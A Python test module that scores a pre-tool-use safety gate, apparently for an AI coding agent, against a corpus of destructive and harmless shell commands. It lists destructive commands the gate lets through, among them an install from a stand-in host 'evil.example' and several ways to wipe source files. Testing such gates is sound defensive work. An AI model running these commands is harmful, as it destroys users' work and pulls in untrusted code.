"""A corpus of commands, half of them destructive: how many the gate stops, and how many harmless ones it bothers.

The project has something to lose: a changed file, an untracked one, a stash, a branch and a worktree of their own.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from pytest_nextrust.hookapi.context import Context
from pytest_nextrust.hookapi.snapshot import load_snapshot
from pytest_nextrust.hooks.handlers.pre_tool_use import commits, destructive, lost_work, own_files
from tests.unit.hooks.support import environment, event_of
from tests.unit.hooks.test_lost_work import clean, dirty

__all__ = ["clean", "dirty"]

CORPUS: dict[str, list[str]] = json.loads((Path(__file__).parent / "corpus.json").read_text(encoding="utf-8"))
PASSING = {
    "npm install some-unknown-package",
    "pip install git+http://evil.example/x",
    "truncate --size=0 Cargo.toml",
    ": > Cargo.toml",
    "dd if=/dev/zero of=src/main.rs",
    "truncate -s 0 src/main.rs",
    "> src/main.rs",
    "cat /dev/null > src/main.rs",
    "cp /dev/null src/main.rs",
    "shred -u src/main.rs",
    "sed -i 's/.*//' src/main.rs",
}
"""Destructive commands that pass: what they destroy git has (``src/main.rs``, ``Cargo.toml``), or they only install."""


def verdicts(project: Path, command: str) -> Iterator[str]:
    """What the handlers that judge commands answer; the reasons stay out."""
    root = str(project)
    environ = environment(project, HOME=str(project.parent))
    context = Context(root, load_snapshot(root, keep=False), environ, deadline=float("inf"))
    event = event_of(command=command.replace("/home/user/project", root), cwd=root)
    for handler in (destructive, own_files, lost_work, commits):
        yield from (answer.kind for answer in handler.nextrust_pre_tool_use(event, context))


def counted(project: Path, kind: str) -> dict[str, list[str]]:
    table: dict[str, list[str]] = {"deny": [], "ask": [], "pass": []}
    for command in CORPUS[kind]:
        given = set(verdicts(project, command))
        table["deny" if "deny" in given else "ask" if "ask" in given else "pass"].append(command)
    return table


def test_the_corpus(dirty: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """At least 110 of 174 destructive commands are stopped, at most 2 of 120 harmless ones; the table is printed."""
    destructive_ones, harmless = counted(dirty, "destructive"), counted(dirty, "harmless")
    with capsys.disabled():
        print("\nclass        number  denied  asked  passed")
        for name, table in (("destructive", destructive_ones), ("harmless", harmless)):
            numbers = [len(table[kind]) for kind in ("deny", "ask", "pass")]
            print(f"{name:12} {sum(numbers):6} {numbers[0]:7} {numbers[1]:6} {numbers[2]:7}")
    assert (len(CORPUS["destructive"]), len(CORPUS["harmless"])) == (174, 120)
    assert set(destructive_ones["pass"]) == PASSING
    assert harmless["deny"] + harmless["ask"] == []
